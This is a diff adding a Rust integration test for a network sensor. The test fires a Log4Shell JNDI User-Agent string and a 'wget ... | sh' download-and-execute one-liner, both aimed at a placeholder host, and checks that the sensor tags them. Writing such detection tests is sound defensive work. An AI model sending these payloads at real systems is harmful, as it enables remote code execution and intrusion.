@@ -203,8 +203,39 @@ fn connect_scan_of_10000_ports_is_fully_accounted_despite_the_per_source_limit()
     assert_eq!(tags(&summary), ["scanner"], "{summary}");
 }
 
+/// Payload tags on connection records: curl with a Log4Shell user agent, and a shell
+/// one-liner on a raw port.
+fn payload_tags_on_real_connections() {
+    let ns = Netns::sensor_host(SENSOR_PORT, &[]);
+    let sensor = Sensor::start(&ns, "");
+    ns.run(&[
+        "curl",
+        "-s",
+        "-m",
+        "3",
+        "-o",
+        "/dev/null",
+        "-H",
+        "User-Agent: ${jndi:ldap://203.0.113.9/a}",
+        "http://127.0.0.1:8081/",
+    ]);
+    ns.within(|| {
+        common::exchange(
+            "127.0.0.1:4444".parse().unwrap(),
+            &[b"cd /tmp; wget http://203.0.113.9/a.sh -O- | sh\n"],
+            Duration::from_millis(300),
+        )
+    });
+    let records = sensor.wait_records(2, Duration::from_secs(5));
+    let http = &common::with_dport(&records, 8081)[0];
+    assert_eq!(tags(http), ["log4shell"], "{http}");
+    let shell = &common::with_dport(&records, 4444)[0];
+    assert_eq!(tags(shell), ["downloader", "download_exec"], "{shell}");
+}
+
 common::test_main! {
     needs_root: [
+        payload_tags_on_real_connections,
         nmap_syn_scan_yields_a_syn_only_summary_tagged_scanner,
         hping3_syn_flood_from_one_source_is_counted_syn_only,
         connect_scan_of_10000_ports_is_fully_accounted_despite_the_per_source_limit,
